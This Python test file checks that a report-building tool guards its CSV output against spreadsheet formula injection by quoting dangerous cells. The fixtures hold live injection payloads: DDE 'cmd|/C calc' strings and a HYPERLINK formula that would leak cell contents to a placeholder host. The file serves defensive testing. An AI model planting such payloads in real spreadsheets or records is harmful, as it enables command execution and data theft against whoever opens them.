"""Formula injection through the report CSVs: record values that a spreadsheet would run as formulas are built into
the reports, and every CSV the build writes is read back with the csv module: each such cell is text (a leading
single quote, as OWASP recommends), numbers stay numbers, and the HTML reports show the values as written.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from click.testing import CliRunner

from careledger.cli import main
from careledger.render import spreadsheet

from .conftest import AS_OF

# What a hostile or careless hand could type into a problem text (the cheat sheet's classics, and their variants).
FORMULAS = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "=1+1\n第二行",
    "-1",  # a number: stays a number
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")


def yaml_quoted(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r") \
        .replace("\n", "\\n") + '"'


@pytest.fixture
def hostile(basic) -> Path:
    visit = basic / "visits" / "2026-10" / "ds-shuji.yaml"
    text = visit.read_text(encoding="utf-8")
    for i, formula in enumerate(FORMULAS, start=2):
        text += f"    - id: p{i}\n      text: {yaml_quoted(formula)}\n"
    visit.write_text(text, encoding="utf-8")
    for rel in ("households/dongshan/ds-001.yaml", "households/dongshan/ds-002.yaml", "households/xiwan/xw-001.yaml"):
        path = basic / rel
        path.write_text(re.sub(r"(?m)^address: .*$", "address: '=HYPERLINK(\"http://example.invalid\")'",
                               path.read_text(encoding="utf-8")), encoding="utf-8")
    return basic


def read_csvs(reports: Path) -> dict[str, list[list[str]]]:
    out = {}
    for path in sorted(reports.rglob("*.csv")):
        data = path.read_bytes()
        assert data.startswith("\ufeff".encode("utf-8"))
        out[path.relative_to(reports).as_posix()] = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    return out


def test_no_cell_of_any_report_csv_is_a_formula(hostile, tmp_path):
    output = tmp_path / "out"
    result = CliRunner().invoke(main, ["build", "--content", str(hostile), "--output", str(output),
                                       "--as-of", AS_OF.isoformat()])
    assert result.exit_code == 0, result.output
    tables = read_csvs(output / "reports")
    assert tables
    cells = [value for rows in tables.values() for row in rows for value in row]
    for value in cells:
        assert not value or value[0] not in TRIGGERS or NUMBER.fullmatch(value), repr(value)
        assert value.lstrip(" \t\r\n\u3000")[:1] not in TRIGGERS or value.startswith("'") or NUMBER.fullmatch(value)
    problems = tables["problems.csv"]
    texts = {row[problems[0].index("问题")] for row in problems[1:]}
    for formula in FORMULAS[:-1]:
        assert "'" + formula.strip() in texts, repr(formula)  # the loader trims text; `test_cell` has the rest
    assert "-1" in texts  # a plain number keeps its sign and no quote
    days = [row[problems[0].index("已开放天数")] for row in problems[1:]]
    assert all(NUMBER.fullmatch(d) for d in days)
    samples = [rows for name, rows in tables.items() if name.startswith("spot-check-")]
    addresses = {row[rows[0].index("现居住地")] for rows in samples for row in rows[1:]}
    assert addresses == {"'=HYPERLINK(\"http://example.invalid\")"}
    # The HTML report shows the text as written, with no quote (HTML is not a spreadsheet).
    html = (output / "reports" / "problems.html").read_text(encoding="utf-8")
    assert "@SUM(1+1)*cmd|&#39; /C calc&#39;!A0" in html and "&#39;@SUM" not in html


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("-3", "-3"), ("-12.50", "-12.50"), ("+8613800000000", "+8613800000000"),
    ("+86 138 0000 0000", "'+86 138 0000 0000"), ("+86-13800000000", "'+86-13800000000"), ("-", "'-"),
    ("@x", "'@x"), ("\t1", "'\t1"), ("\r1", "'\r1"), (" \n=x", "' \n=x"), ("\u3000＝x", "'\u3000＝x"),
    ("1-2", "1-2"), ("2026-11-23", "2026-11-23"), ("屋顶漏雨", "屋顶漏雨"), ("", ""), (None, ""), (7, "7"),
    (-7, "-7"), ("1e5", "1e5"), ("-1e5", "'-1e5"), ("'=x", "'=x"),
])
def test_cell(value, expected):
    assert spreadsheet.cell(value) == expected
